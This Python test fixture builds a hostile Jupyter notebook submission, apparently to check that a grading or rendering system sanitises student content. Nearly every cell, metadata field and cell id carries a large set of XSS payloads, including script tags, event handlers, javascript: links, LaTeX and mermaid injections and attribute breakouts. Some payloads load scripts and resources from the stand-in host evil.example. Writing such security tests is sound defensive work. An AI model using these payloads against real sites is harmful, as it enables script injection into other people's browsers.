"""A submission in which everything that a student can write tries to run a script or to reach an address.

Whatever runs sets `window.ran`; whatever asks for something asks EVIL.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

EVIL = "http://evil.example"
RUN = "window.ran=1"
HTML = f"""
<script>{RUN}</script> <ScRiPt src="{EVIL}/s.js"></ScRiPt> <img src=x onerror={RUN}> <img/src=x/onerror={RUN}>
<svg onload={RUN}><script>{RUN}</script></svg> <body onload={RUN}> <details open ontoggle={RUN}>x</details>
<iframe srcdoc="<script>parent.{RUN}</script>"></iframe> <iframe src="javascript:parent.{RUN}"></iframe>
<a href="javascript:{RUN}">link</a> <a href="{EVIL}/page" ping="{EVIL}/ping">out</a>
<a href=# onclick={RUN}>y</a> <form action="javascript:{RUN}"><button>press</button></form>
<object data="{EVIL}/o"></object>
<style>@import url({EVIL}/s.css);</style> <link rel=stylesheet href="{EVIL}/l.css"> <base href="{EVIL}/">
<meta http-equiv=refresh content="0;url={EVIL}/r"> <math><mtext><img src=x onerror={RUN}></mtext></math>
<input autofocus onfocus={RUN}> <video src="{EVIL}/v" onerror={RUN}></video>
<div onmouseover={RUN}>hover</div>
</pre></code></div></style></script></textarea></title>--><script>{RUN}</script>
"""
MARKDOWN = f"""# <img src=x onerror={RUN}> heading

{HTML}

[inline](javascript:{RUN}) [coded](java&#115;cript:{RUN}) [spaced]( javascript:{RUN} "t") [out]({EVIL}/m)
[ref][e] [e] [broken
](javascript:{RUN}) <javascript:{RUN}> <{EVIL}/auto> {EVIL}/bare [x](data:text/html,<script>{RUN}</script>)
![p]({EVIL}/pixel.png) ![q](x" onerror="{RUN}) ![a](attachment:evil.svg) ![r][e]
&lt;img src=x onerror={RUN}&gt; &#60;script>{RUN}&#60;/script> &lt;script&gt;{RUN}&lt;/script&gt;

[e]: javascript:{RUN}

$\\href{{javascript:{RUN}}}{{x}}$ $\\text{{<img src=x onerror={RUN}>}}$ $a < b <img src=x onerror={RUN}>$

$$\\unicode{{<img src=x onerror={RUN}>}} \\class{{x" onload="{RUN}}}{{y}}$$

\\begin{{a}}<img src=x onerror={RUN}>\\end{{a}}

```mermaid
graph LR; A["<img src=x onerror={RUN}>"]; click A href "javascript:{RUN}"
```

```html" onload="{RUN}
<script>{RUN}</script>
```

| <img src=x onerror={RUN}> | [c](javascript:{RUN}) |
|---|---|
| `<script>{RUN}</script>` | ~~<img src=x onerror={RUN}>~~ |

- [ ] <img src=x onerror={RUN}>
"""
SHOWS = f"""
import sys
from IPython.display import HTML, JSON, SVG, Javascript, Latex, Markdown, display
H, M = {HTML!r}, {MARKDOWN!r}
print(H); print(H, file=sys.stderr); print(M)
print("\\x1b]8;;javascript:{RUN}\\x07click\\x1b]8;;\\x07 \\x1b[31m<script>{RUN}</script>\\x1b[0m")
print("\\x1b[<img src=x onerror={RUN}>m")
for shown in (HTML(H), Javascript("{RUN}"), Latex(H), Markdown(M), JSON({{H: H}})):
    display(shown)
for kind in ("image/svg+xml", "text/latex", "text/vnd.mermaid", "application/vnd.jupyter.widget-view+json",
             "application/vnd.plotly.v1+json", "application/pdf", "image/png", "image/jpeg", "text/plain"):
    told = {{kind: {{"alt": H, "width": H, "isolated": True}}, "filenames": {{kind: H}}}}
    display({{kind: H}}, raw=True, metadata=told)
display(type(H, (), {{"__repr__": lambda self: H, "_repr_html_": lambda self: H}})())
"""
FAILS = f"raise type({HTML!r}, (Exception,), {{}})({HTML!r})"
DIES = "def conv1x1(image, weight, bias):\n    " + FAILS
FAILS_FAR_AWAY = "import json, sys\nprint(sys.prefix, json.__file__)\njson.loads('{')"
COMMENT = f'text = """{HTML}"""  # </pre><script>{RUN}</script>'


def fill(notebook: Any) -> None:
    """Put all of it into the notebook that students receive, wherever there is room."""
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id", "")
        if grade_id == "conv1x1-answer":
            cell.source = DIES
        if grade_id == "depth-words":
            cell.source = MARKDOWN
        cell.metadata["tags"] = [HTML]
        cell.metadata["alt"] = HTML
    attached = {"evil.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9IndpbmRvdy5yYW49MSIvPg=="}}
    notebook.cells += [
        new_code_cell(SHOWS),
        new_code_cell(FAILS),
        new_code_cell(FAILS_FAR_AWAY),
        new_code_cell(COMMENT),
        new_markdown_cell(MARKDOWN, attachments=attached),
        new_raw_cell(HTML, metadata={"raw_mimetype": "text/html"}),
    ]
    notebook.metadata["title"] = HTML
    notebook.metadata["language_info"] = {"name": HTML, "pygments_lexer": HTML}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {HTML: HTML}}}


def write(path: Path, notebook: Any) -> None:
    """Write it as JSON, past nbformat's own checks, with cell ids that want out of their attribute."""
    content = json.loads(json.dumps(notebook))
    for index, cell in enumerate(content["cells"]):
        cell["id"] = f'x{index}" onmouseover="{RUN}'
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(content), encoding="utf-8")
